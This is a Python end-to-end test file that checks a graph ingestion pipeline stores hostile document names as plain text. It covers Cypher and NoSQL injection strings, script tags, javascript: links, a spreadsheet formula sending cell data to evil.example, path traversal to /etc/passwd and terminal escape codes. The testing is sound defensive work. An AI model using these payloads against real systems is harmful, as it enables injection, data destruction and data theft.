"""Text that wants to be something else: through every stage it stays text."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from flows.cli.app import app
from flows.components import components
from flows.params import IngestParams
from graph.client import Graph
from tests.e2e.running import artifact, run

pytestmark = pytest.mark.e2e

NAMES = {
    "cypher": "x'}) DETACH DELETE n // `$rows` \\u0027 MATCH (n) SET n:Admin",
    "html": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "markdown": "[click](javascript:alert(1)) ![p](https://evil.example/p.png) | a | b |",
    "formula": '=HYPERLINK("https://evil.example?"&A1;"x")',
    "query": '*:* OR _exists_:id" NEAR("a" "b") AND (folded:*)',
    "path": "../../../../etc/passwd",
    "json": '{"$ne": null}, "type": "Admin"',
}
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m"
LABELS = {
    *("Entity", "Person", "Organization", "Location", "Time", "Number", "Misc"),
    *("Document", "Evidence", "Run", "Cursor", "FailedDocument", "Schema", "Writer", "Correction"),
}


def hostile(name: str, title: str) -> dict[str, Any]:
    """Return a document of DocRED whose title, words and names are hostile."""
    return {
        "title": f"{title} {name} {ESCAPES}",
        "sents": [[name, "was", "born", "in", f"{name}{ESCAPES} town", "."]],
        "vertexSet": [
            [{"name": name, "sent_id": 0, "pos": [0, 1], "type": "PER"}],
            [{"name": f"{name} town", "sent_id": 0, "pos": [4, 5], "type": "LOC"}],
        ],
    }


@pytest.fixture
def stored(graph: Graph, tmp_path: Path) -> Graph:
    """The graph of hostile documents."""
    folder = tmp_path / "documents"
    folder.mkdir()
    documents = [hostile(name, title) for title, name in NAMES.items()]
    (folder / "hostile.json").write_text(json.dumps(documents), encoding="utf-8")
    state, report = run(IngestParams(path=folder, name="hostile"))
    assert state.is_completed(), report
    assert (report.counts.processed, report.failures) == (len(NAMES), ())
    assert report.counts.statements > 0
    return graph


def test_names_are_stored_and_nothing_else_happens(stored: Graph) -> None:
    labels = stored.query("MATCH (n) UNWIND labels(n) AS label RETURN DISTINCT label")
    assert {each["label"] for each in labels} <= LABELS
    known = set(components().vocabulary().types.values()) | {"MENTIONED_IN", "FROM"}
    types = stored.query("MATCH ()-[r]->() RETURN DISTINCT type(r) AS type")
    assert {each["type"] for each in types} <= known
    assert stored.counts()["documents"] == len(NAMES)
    names = {each["name"] for each in stored.query("MATCH (e:Entity) RETURN e.name AS name")}
    assert set(NAMES.values()) <= {" ".join(name.split()) for name in names}


def test_no_text_keeps_a_command_of_the_terminal(stored: Graph) -> None:
    texts = stored.query(
        "MATCH (n) WHERE n.name IS NOT NULL OR n.title IS NOT NULL OR n.text IS NOT NULL "
        "RETURN n.id AS id, n.name AS name, n.title AS title, n.text AS text"
    )
    assert texts
    assert not {"\x1b", "\x07", "\x9b"} & set("".join(str(each.values()) for each in texts))


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_a_name_finds_itself_and_nobody_else(stored: Graph, name: str) -> None:
    assert [found.name for found in stored.find(name)] == [name]


def test_the_report_at_prefect_has_no_markup_of_theirs(stored: Graph) -> None:
    report = artifact("ingest-report")
    assert "<script>" not in report
    assert "](" not in report
    assert "<img" not in report


def test_the_page_of_a_neighbourhood_runs_no_script_of_theirs(
    stored: Graph, tmp_path: Path
) -> None:
    page = tmp_path / "page.html"
    shown = CliRunner().invoke(app, ["view", NAMES["html"], "--output", str(page)])
    assert shown.exit_code == 0, shown.output
    text = page.read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)" in text
    assert "<script>alert" not in text
    assert "<img" not in text


@pytest.mark.parametrize(
    "relation", ["P19`]-() DETACH DELETE h //", "x'] RETURN 1", "MENTIONED_IN"]
)
def test_a_relation_that_the_vocabulary_has_not_is_refused(stored: Graph, relation: str) -> None:
    before = stored.counts()
    refused = CliRunner().invoke(app, ["reject", NAMES["cypher"], relation, NAMES["path"]])
    assert refused.exit_code == 1
    assert stored.counts() == before
